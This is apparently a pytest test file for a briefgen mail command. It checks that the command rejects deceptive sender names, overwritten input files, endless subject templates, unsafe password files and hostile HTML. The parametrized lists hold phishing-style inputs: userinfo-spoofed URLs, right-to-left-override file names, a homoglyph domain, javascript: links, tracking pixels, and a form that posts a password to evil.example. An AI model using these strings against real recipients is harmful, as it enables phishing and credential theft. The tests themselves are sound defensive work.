"""What `briefgen mail` promises beyond delivery (issue 13): display names that cannot pass
for another address or reorder themselves, a draft that never overwrites an input or an
existing file without --force, a subject template under the bounds of every template,
and links in the mail that show where they go.

Each test reads the real result back: the draft on disk, the message's text and HTML,
the files it must have left alone.
"""

from __future__ import annotations

import json
import os
import re
import socket
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import test_deliver
from click.testing import CliRunner
from test_deliver import EDITION, SENDER, config, mail, parse, words

from briefgen import bounded
from briefgen.cli import main
from briefgen.config import load as load_config
from briefgen.deliver import link_host
from briefgen.errors import BriefgenError

built, ws = test_deliver.built, test_deliver.ws  # fixtures: the sample workspace, built
pytestmark = pytest.mark.usefixtures("ws")  # a copy of the built sample workspace, as cwd

REGISTRY = Path("sources/nk-russia/sources.yaml")
CITED = "- id: news-2025-01-24"
"""A source that W04's first key judgment cites, and that has no URL in the sample."""


def draft(**kwargs) -> object:
    kwargs.setdefault("to", ["ann@example.org"])
    return mail(config=config(mail={"from": SENDER}), **kwargs)


# --- display names --------------------------------------------------------------------


DECEPTIVE = [
    pytest.param('"ann@example.org" <spy@evil.example>', "@", id="address-as-name"),
    pytest.param('"ann\uff20example.org" <spy@evil.example>', "@", id="fullwidth-at"),
    pytest.param("Ann \u202eredaeR <ann@example.org>", "U+202E", id="rlo-in-name"),
    pytest.param("An\u200bn <ann@example.org>", "U+200B", id="zero-width-in-name"),
    pytest.param("Ann \u2066Reader\u2069 <ann@example.org>", "U+2066", id="isolate-in-name"),
]


@pytest.mark.parametrize(("address", "named"), DECEPTIVE)
def test_deceptive_display_names_are_refused_on_every_flag(address: str, named: str) -> None:
    for flag in ("to", "cc", "bcc"):
        with pytest.raises(BriefgenError) as error:
            mail(**{flag: [address]}, dry_run=True)
        assert f"--{flag}" in str(error.value) and named in str(error.value)


@pytest.mark.parametrize(("address", "named"), DECEPTIVE)
def test_deceptive_display_names_in_briefgen_toml_name_their_line(
    ws: Path, address: str, named: str
) -> None:
    quoted = json.dumps(address)  # a TOML basic string: \" and \uXXXX escapes
    toml = (
        f'[mail]\nfrom = {quoted}\n[mail.lists]\nweekly = [\n  "bob@example.org",\n  {quoted},\n]\n'
    )
    (ws / "briefgen.toml").write_text(toml, "utf-8")
    cfg = load_config(ws)
    assert cfg.mail.sender == address
    with pytest.raises(BriefgenError, match=r"briefgen\.toml:2: \[mail\] from") as error:
        mail(dry_run=True, config=cfg)
    assert named in str(error.value)
    listed = cfg.model_copy(update={"mail": cfg.mail.model_copy(update={"sender": None})})
    with pytest.raises(BriefgenError, match=r"briefgen\.toml:(4|6): \[mail\.lists\] weekly") as e:
        mail(list_name="weekly", dry_run=True, config=listed)
    assert named in str(e.value)


def test_plain_and_international_names_still_pass() -> None:
    result = mail(to=["Zoë Ünal <zoe@example.org>", '"Smith, Ann" <ann@example.org>'], dry_run=True)
    assert result.to == ["Zoë Ünal <zoe@example.org>", '"Smith, Ann" <ann@example.org>']


# --- the draft ------------------------------------------------------------------------


def snapshot(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


@pytest.mark.parametrize(
    "target",
    [
        "sources/nk-russia/2025-W04.yaml",
        "sources/nk-russia/sources.yaml",
        "sources/nk-russia/../nk-russia/2025-W03.yaml",
        "output/2025-01-26-nk-russia.pdf",
        "output/2025-01-19-nk-russia.pdf",
        "briefgen.toml",
        "templates/email.txt.j2",
        "link-to-notes.eml",
        "hard-link-to-notes.eml",
    ],
)
def test_a_draft_never_overwrites_an_input_even_with_force(ws: Path, target: str) -> None:
    (ws / "briefgen.toml").write_text("[brief]\n", encoding="utf-8")
    (ws / "templates").mkdir(exist_ok=True)
    (ws / "templates" / "email.txt.j2").write_text("{{ brief.title }}\n", encoding="utf-8")
    (ws / "link-to-notes.eml").symlink_to(ws / EDITION)
    (ws / "output" / "2025-01-19-nk-russia.pdf").write_bytes(b"%PDF-1.7 last week's brief\n")
    os.link(ws / EDITION, ws / "hard-link-to-notes.eml")
    before = snapshot(ws)
    for force in (False, True):
        with pytest.raises(BriefgenError, match="made from") as error:
            draft(eml=ws / target, force=force)
        assert "--force" in str(error.value)
    assert snapshot(ws) == before


def test_a_draft_replaces_another_file_only_with_force(ws: Path) -> None:
    mine = ws / "notes-to-self.eml"
    mine.write_bytes(b"my own message\n")
    with pytest.raises(BriefgenError, match="exists; give another file name, or add --force"):
        draft(eml=mine)
    assert mine.read_bytes() == b"my own message\n"
    result = draft(eml=mine, force=True)
    assert result.eml == mine and parse(mine.read_bytes())["X-Unsent"] == "1"


def test_a_draft_leaves_other_programs_files_alone(ws: Path) -> None:
    downloads = ws / "Downloads"
    downloads.mkdir()
    theirs = [downloads / ".backup.20240101.tar.part", downloads / ".x.99999999.part"]
    for path in theirs:
        path.write_bytes(b"someone else's")
    draft(eml=downloads / "brief.eml")
    names = sorted(p.name for p in downloads.iterdir())
    assert names == sorted(["brief.eml", *(p.name for p in theirs)])
    assert all(p.read_bytes() == b"someone else's" for p in theirs)


def test_a_draft_is_refused_over_a_folder_or_a_pipe(ws: Path) -> None:
    (ws / "a-folder.eml").mkdir()
    os.mkfifo(ws / "a-pipe.eml")
    with pytest.raises(BriefgenError, match="is a folder"):
        draft(eml=ws / "a-folder.eml", force=True)
    with pytest.raises(BriefgenError, match="not a regular file"):
        draft(eml=ws / "a-pipe.eml", force=True)


def test_mail_force_flag_on_the_command_line(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BRIEFGEN_SMTP_FROM", SENDER)
    args = ["mail", str(EDITION), "--to", "ann@example.org", "--eml"]
    notes = (ws / EDITION).read_bytes()
    refused = CliRunner().invoke(main, [*args, str(EDITION), "--force"])
    assert refused.exit_code == 1 and "Traceback" not in refused.output
    assert "made from" in refused.output and (ws / EDITION).read_bytes() == notes
    (ws / "old.eml").write_text("old", encoding="utf-8")
    assert CliRunner().invoke(main, [*args, "old.eml"]).exit_code == 1
    forced = CliRunner().invoke(main, [*args, "old.eml", "--force"])
    assert forced.exit_code == 0, forced.output
    assert parse((ws / "old.eml").read_bytes())["X-Unsent"] == "1"


# --- the subject template -------------------------------------------------------------


def test_a_subject_template_that_never_ends_is_stopped(
    ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(bounded, "SECONDS", 1.0)
    endless = "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}"
    (ws / "briefgen.toml").write_text(f"[mail]\nsubject = '{endless}'\n", encoding="utf-8")
    with pytest.raises(BriefgenError) as error:
        mail(to=["ann@example.org"], dry_run=True, config=config(mail={"subject": endless}))
    message = str(error.value)
    assert "briefgen.toml:2: [mail] subject" in message and "longer than 1 s" in message


def test_a_subject_template_error_names_its_line(ws: Path) -> None:
    (ws / "briefgen.toml").write_text("[mail]\nsubject = '{{ brief.nope }}'\n", "utf-8")
    with pytest.raises(BriefgenError, match=r"briefgen\.toml:2: \[mail\] subject: .*nope"):
        mail(dry_run=True, config=config(mail={"subject": "{{ brief.nope }}"}))


# --- links ----------------------------------------------------------------------------


def give_url(ws: Path, url: str) -> None:
    registry = ws / REGISTRY
    text = registry.read_text(encoding="utf-8")
    registry.write_text(text.replace(CITED, f"{CITED}\n  url: {url}"), encoding="utf-8")


def bodies(result) -> tuple[str, str]:
    message = parse(result.message.as_bytes())
    return message.get_body(("plain",)).get_content(), message.get_body(("html",)).get_content()


def test_links_show_their_host_beside_the_marker(ws: Path) -> None:
    give_url(ws, "https://News.Example.org/2025/01/24/troops")
    text, html = bodies(mail(to=["ann@example.org"], dry_run=True))
    assert "[1] News report (unattributed) (news.example.org)" in words(text)
    assert re.search(
        r'<a href="https://news\.example\.org/2025/01/24/troops"[^>]*>\[1\] News report '
        r'\(unattributed\)</a> <span dir="ltr">\(news\.example\.org\)</span>',
        html,
    )
    assert_every_link_shows_its_host(html)


HOSTILE_URLS = [
    "https://www.reuters.com@evil.example/a",
    "https://user:password@news.example.org/a",
    "https://news.example.org/\u202efdp.exe",
    "https://news.example.org/a\u200bb",
    "https:///etc/passwd",
    "javascript:alert(1)",
    "https://www.\u0430pple.com/",
]


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_no_deceptive_link_reaches_the_mail(ws: Path, url: str) -> None:
    """Refused (by the notes' URL policy), or mailed without a link that hides where it
    goes: every link shows its host, and none carries a user name or password."""
    give_url(ws, url)
    try:
        result = mail(to=["ann@example.org"], dry_run=True)
    except BriefgenError as error:
        assert "url" in str(error).lower()
        return
    text, html = bodies(result)
    assert_every_link_shows_its_host(html)
    assert "evil.example" not in html or "(evil.example)" in html
    assert "password@" not in html and "password@" not in text


def assert_every_link_shows_its_host(html: str) -> None:
    for href, _, after in re.findall(r'<a href="([^"]*)"([^>]*)>.*?</a>(.{0,80})', html):
        parts = urlsplit(href.replace("&amp;", "&"))
        assert parts.scheme in ("http", "https") and not parts.username
        assert f"({parts.hostname})" in after


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://reaction.life/x", "reaction.life"),
        ("https://B\u00fccher.de/", "xn--bcher-kva.de"),
        ("https://www.reuters.com@evil.example/a", ""),
        ("https://a.example/\u202efdp.exe", ""),
        ("https:///etc/passwd", ""),
        ("ftp://files.example/x", ""),
        (None, ""),
    ],
)
def test_link_host(url: str | None, host: str) -> None:
    assert link_host(url) == host


def test_right_to_left_text_is_isolated_in_both_bodies(ws: Path) -> None:
    notes = ws / EDITION
    first = "  - text: South Korea's Joint Chiefs of Staff (JCS) said"
    rtl = "\u05de\u05e7\u05d5\u05e8 \u05e6\u05d1\u05d0\u05d9"  # Hebrew: "military source"
    text = notes.read_text(encoding="utf-8")
    assert first in text
    notes.write_text(text.replace(first, f"  - text: {rtl} says South Korea's JCS said"), "utf-8")
    plain, html = bodies(mail(to=["ann@example.org"], dry_run=True))
    for body in (plain, html):
        at = body.index(rtl)
        opened = body.rindex("\u2068", 0, at)  # FSI opens the line (after its number)...
        assert at - opened <= len("\u20681. ")
        closed = body.index("\u2069", at)  # ...and PDI closes it before its sources
        assert body.index("reached that conclusion", at) < closed < body.index("Sources:", at)


# --- the password file ------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["private-key", "big", "fifo", "folder"])
def test_only_a_one_line_password_file_is_read(ws: Path, kind: str) -> None:
    """`password_file` may come from a shared briefgen.toml, and what it names is sent at
    login: a key, a big file, a pipe or a folder is refused before any connection."""
    secret = ws / "secret"
    if kind == "private-key":
        secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n-----END-----\n", "utf-8")
    elif kind == "big":
        secret.write_text("x" * 5000, encoding="utf-8")
    elif kind == "fifo":
        os.mkfifo(secret)
    else:
        secret.mkdir()
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0)
    try:
        cfg = config(
            smtp={
                "host": "127.0.0.1",
                "port": listener.getsockname()[1],
                "security": "none",
                "user": "desk",
                "password_file": str(secret),
            },
            mail={"from": SENDER},
        )
        with pytest.raises(BriefgenError, match="password_file") as error:
            mail(to=["ann@example.org"], send=True, config=cfg)
        with pytest.raises(BlockingIOError):
            listener.accept()  # no one ever connected
    finally:
        listener.close()
    assert "BEGIN" not in str(error.value) and "b3Blbn" not in str(error.value)


# --- a workspace's own HTML body ------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        '<a href="https://www.reuters.com@evil.example/a">[1] Reuters</a>',
        '<a href="javascript:alert(1)">[1] Reuters</a>',
        '<a href="file:///etc/passwd">[1] Reuters</a>',
        '<a href="https://news.example.org/\u202efdp.exe">[1] Reuters</a>',
        '<img src="https://tracker.example/pixel.gif" alt="">',
        '<img src="//tracker.example/pixel.gif" alt="">',
        '<div style="background: URL(https://tracker.example/p)">x</div>',
        '<style>p { background: url("https://tracker.example/p") }</style>',
        '<link rel="stylesheet" href="https://tracker.example/s.css">',
        "<script>document.title = 1</script>",
        '<style>@import "https://tracker.example/s.css";</style>',
        '<meta http-equiv="Refresh" content="0; url=https://evil.example/">',
        '<p onmouseover="alert(1)">x</p>',
        '<form action="https://evil.example/"><input name="password"></form>',
    ],
)
def test_a_workspace_html_body_cannot_hide_a_link_or_load_a_tracker(ws: Path, body: str) -> None:
    (ws / "templates").mkdir(exist_ok=True)
    template = ws / "templates" / "email.html.j2"
    template.write_text(f"<html><body><p>{{{{ brief.title }}}}</p>\n{body}\n</body></html>\n")
    for mode in ({"dry_run": True}, {"eml": ws / "draft.eml"}):
        with pytest.raises(BriefgenError, match=r"email\.html\.j2: the HTML body") as error:
            draft(**mode)
        assert "line 2" in str(error.value)
    assert not (ws / "draft.eml").exists()


def test_a_workspace_html_body_with_safe_links_and_embedded_images_is_sent(ws: Path) -> None:
    (ws / "templates").mkdir(exist_ok=True)
    (ws / "templates" / "email.html.j2").write_text(
        '<p><a href="https://news.example.org/a?b=1&amp;c=2">[1] News</a>'
        ' <a href="mailto:desk@example.org">desk</a> <a href="#top">top</a>'
        ' <img src="data:image/png;base64,iVBORw0KGgo=" alt="logo"></p>\n'
    )
    _, html = bodies(draft(eml=ws / "draft.eml"))
    assert 'href="https://news.example.org/a?b=1&amp;c=2"' in html


@pytest.mark.parametrize(
    "line",
    [
        "Read it at https://www.reuters.com@evil.example/world/ today.",
        "Mirror: www.reuters.com@evil.example/world",
        "Full text: https://news.example.org/\u202efdp.exe",
    ],
)
def test_a_workspace_text_body_cannot_write_a_deceptive_address(ws: Path, line: str) -> None:
    (ws / "templates").mkdir(exist_ok=True)
    (ws / "templates" / "email.txt.j2").write_text(f"{{{{ brief.title }}}}\n{line}\n", "utf-8")
    with pytest.raises(BriefgenError, match=r"email\.txt\.j2: the text body .*line 2"):
        draft(eml=ws / "draft.eml")
    assert not (ws / "draft.eml").exists()
